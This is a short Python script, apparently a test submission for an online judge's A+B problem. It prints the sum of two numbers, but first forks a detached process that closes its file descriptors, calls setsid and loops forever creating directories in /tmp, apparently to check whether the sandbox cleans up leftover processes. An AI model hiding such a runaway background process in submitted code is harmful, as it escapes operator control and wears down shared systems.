import os
import posix

a, b = map(int, input().split())
if posix.fork() == 0:
    os.closerange(0, 256)
    posix.setsid()
    number = 0
    while True:
        number += 1
        try:
            os.mkdir(f"/tmp/residue_race{number % 1000}")
        except OSError:
            pass
print(a + b)
